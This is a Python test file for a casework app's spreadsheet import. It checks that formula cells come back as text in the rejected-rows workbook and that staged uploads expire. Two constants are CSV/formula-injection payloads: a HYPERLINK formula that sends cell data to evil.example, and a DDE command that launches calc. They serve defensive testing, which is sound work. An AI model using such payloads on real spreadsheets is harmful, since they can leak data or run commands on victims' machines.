"""What the import writes and keeps (issue 18, findings 4 and 9): the rejected-rows workbook
holds uploaded cells as text, and staged uploads do not outlive their short lifetime."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import time_machine
from openpyxl import Workbook, load_workbook

from casework.services.imports import spec
from tests.imports.conftest import case_row

LIVE = '=HYPERLINK("http://evil.example/?d="&B2,"Mở")'
DDE = "=cmd|' /C calc'!A0"


def upload(client, data, name="nhap.xlsx"):
    return client.submit("/imports/check", {"files": (io.BytesIO(data), name)},
                         page="/imports/", content_type="multipart/form-data")


def import_clean_rows(client) -> bytes:
    done = client.submit("/imports/apply", {"mode": "clean_only"}, page="/imports/")
    assert done.status_code == 302, done.get_data(as_text=True)[:300]
    rejected = client.get("/imports/rejected.xlsx")
    assert rejected.status_code == 200
    return rejected.data


def assert_text_only(data: bytes, expected: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml
    cases = load_workbook(io.BytesIO(data))[spec.CASES.title]
    cell = next(c for row in cases.iter_rows(min_row=2) for c in row if c.value == expected)
    assert cell.data_type == "s"


def test_a_formula_cell_comes_back_as_text_in_the_rejected_rows(
        client, make_user, login, org, provider):
    wb = Workbook()
    ws = wb.active
    ws.title = spec.CASES.title
    columns = [c.key for c in spec.CASES.columns]
    ws.append([c.header for c in spec.CASES.columns])
    for row in (case_row(), case_row("HS-2", full_name="Lê Thị Hai", national_id=None,
                                     phone=None)):
        ws.append([row.get(k) for k in columns])
    ws.cell(3, columns.index("full_name") + 1).value = LIVE  # a formula cell: row 3 rejected
    buffer = io.BytesIO()
    wb.save(buffer)
    login(client, make_user("caseworker", unit=org.d1))
    assert upload(client, buffer.getvalue()).status_code == 200
    assert_text_only(import_clean_rows(client), LIVE)


def test_a_csv_value_starting_with_equals_comes_back_as_text(client, make_user, login, org,
                                                             provider):
    header = ",".join(c.header for c in spec.CASES.columns if c.key in (
        "case_ref", "unit", "group", "intake_date", "full_name", "referral_source"))
    csv_text = (f"{header}\nHS-1,C1,left_sex_work,15/03/2021,Trần Thị Thử,union\n"
                f"HS-2,C1,left_sex_work,31/02/2021,\"{DDE}\",union\n")
    login(client, make_user("caseworker", unit=org.d1))
    assert upload(client, csv_text.encode(), "cases.csv").status_code == 200
    assert_text_only(import_clean_rows(client), DDE)


# --- Staged uploads ------------------------------------------------------------------------------

def staged_files(app) -> list[Path]:
    return sorted((Path(app.instance_path) / "import-staging").glob("*.bin"))


def stage_one(client, make_user, login, org) -> None:
    from tests.imports.conftest import workbook_bytes

    login(client, make_user("caseworker", unit=org.d1))
    assert upload(client, workbook_bytes({"cases": [case_row()]})).status_code == 200


def test_an_abandoned_dry_run_is_deleted_at_the_next_import_request(
        app, client, make_user, login, org, provider):
    assert app.config["CASEWORK_IMPORT_STAGING_MINUTES"] == 30
    app.config["CASEWORK_IMPORT_STAGING_MINUTES"] = 10
    stage_one(client, make_user, login, org)
    assert len(staged_files(app)) == 1
    with time_machine.travel(time.time() + 9 * 60, tick=False):
        client.get("/imports/")
        assert len(staged_files(app)) == 1  # still within its lifetime
    with time_machine.travel(time.time() + 11 * 60, tick=False):
        client.get("/imports/")
        assert staged_files(app) == []
        # The dry run can no longer be imported.
        gone = client.submit("/imports/apply", {"mode": "all"}, page="/imports/")
        assert gone.status_code == 302


def test_the_cleanup_command_deletes_expired_uploads_for_cron(app, client, make_user, login,
                                                              org, provider):
    stage_one(client, make_user, login, org)
    runner = app.test_cli_runner()
    kept = runner.invoke(args=["import-staging-cleanup"])
    assert kept.exit_code == 0
    assert "Deleted 0" in kept.output
    assert len(staged_files(app)) == 1
    with time_machine.travel(time.time() + 31 * 60, tick=False):
        swept = runner.invoke(args=["import-staging-cleanup"])
    assert swept.exit_code == 0, swept.output
    assert "Deleted 1" in swept.output
    assert staged_files(app) == []


def test_cancel_deletes_the_staged_upload(app, client, make_user, login, org, provider):
    stage_one(client, make_user, login, org)
    assert len(staged_files(app)) == 1
    assert client.submit("/imports/cancel", {}, page="/imports/").status_code == 302
    assert staged_files(app) == []


def test_the_lifetime_is_a_setting(make_app):
    assert make_app(import_staging_minutes="5").config["CASEWORK_IMPORT_STAGING_MINUTES"] == 5
